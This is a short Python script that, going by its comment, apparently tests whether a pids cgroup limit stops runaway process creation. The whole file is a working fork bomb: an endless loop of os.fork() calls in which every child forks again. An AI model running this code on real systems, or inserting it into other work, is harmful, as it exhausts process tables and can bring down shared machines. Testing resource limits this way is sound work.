# Forks until the pids cgroup refuses; every child keeps forking too.
import os
while True:
    os.fork()
